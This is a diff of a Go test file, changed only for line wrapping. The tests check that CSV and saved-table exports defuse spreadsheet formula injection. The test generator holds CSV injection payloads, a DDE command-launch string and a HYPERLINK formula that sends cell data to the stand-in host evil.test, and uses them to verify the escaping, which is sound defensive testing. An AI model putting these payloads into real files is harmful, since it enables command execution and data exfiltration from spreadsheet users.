@@ -20,8 +20,10 @@ import (
 // formulas are texts that some spreadsheet would run as a cell, or as a piece of one that it splits.
 func formulas() (list []string) {
 	for _, begin := range "=+-@＝＋－＠\t\r\n" {
-		for _, before := range []string{"", " ", "\u00a0", "\ufeff", `"`, `""`, "\t", "\r", "\n", "x;", "x; ", `x;"`, "x;;", "x\t", "x\r", "x\n", "1;", "-1;"} {
-			list = append(list, before+string(begin)+"1+cmd|' /C calc'!A0", before+string(begin)+`HYPERLINK("http://evil.test/?"&A1,"x");`)
+		for _, before := range []string{"", " ", "\u00a0", "\ufeff", `"`, `""`, "\t", "\r", "\n", "x;", "x; ", `x;"`, "x;;",
+			"x\t", "x\r", "x\n", "1;", "-1;"} {
+			list = append(list, before+string(begin)+"1+cmd|' /C calc'!A0", before+string(begin)+
+				`HYPERLINK("http://evil.test/?"&A1,"x");`)
 		}
 	}
 	for _, h := range hostiletest.Texts() {
@@ -36,8 +38,8 @@ var (
 	isNumber = regexp.MustCompile(`^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$`)
 )
 
-// runsNothing holds that no cell of a CSV is a formula: read by commas, or split by those who know no comma as separator,
-// without regard to quotes.
+// runsNothing holds that no cell of a CSV is a formula: read by commas, or split by those who know no comma as
+// separator, without regard to quotes.
 func runsNothing(t *testing.T, about, text string) (rows [][]string) {
 	t.Helper()
 	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
@@ -57,8 +59,8 @@ func runsNothing(t *testing.T, about, text string) (rows [][]string) {
 	return rows
 }
 
-// TestCSVRunsNothing writes tables with formulas wherever a text is not the program's own: hosts, labels, keys, agents, tokens,
-// which are names of columns, too. Nothing but quotes is added, and other texts and numbers stay as they are.
+// TestCSVRunsNothing writes tables with formulas wherever a text is not the program's own: hosts, labels, keys, agents,
+// tokens, which are names of columns, too. Nothing but quotes is added, and other texts and numbers stay as they are.
 func TestCSVRunsNothing(t *testing.T) {
 	columns := []string{"host", "label", "key", "agent", "token"}
 	table := &survey.Table{Name: "unknown-keys", Columns: append(columns, formulas()...)}
@@ -92,7 +94,8 @@ func TestCSVRunsNothing(t *testing.T) {
 			}
 		}
 	}
-	for _, same := range []string{"", "-3.2", "+7", "-1", "-1e-5", "0", "a=b", "a-b", "User-agent", "x@example.org", "don't", "https://a.test/?a=-1", "search=yes, ai-train=no", "bücher.example", "a,b", `say "x"`} {
+	for _, same := range []string{"", "-3.2", "+7", "-1", "-1e-5", "0", "a=b", "a-b", "User-agent", "x@example.org",
+		"don't", "https://a.test/?a=-1", "search=yes, ai-train=no", "bücher.example", "a,b", `say "x"`} {
 		if got := inert(same); got != same {
 			t.Errorf("%q became %q", same, got)
 		}
@@ -104,7 +107,8 @@ func TestCSVRunsNothing(t *testing.T) {
 	}
 }
 
-// TestSavedTablesRunNothing holds the same of what the script of the page saves: it takes each cell's data-v, else its text.
+// TestSavedTablesRunNothing holds the same of what the script of the page saves: it takes each cell's data-v, else its
+// text.
 func TestSavedTablesRunNothing(t *testing.T) {
 	s := hostileSurvey()
 	for _, table := range s.Tables {
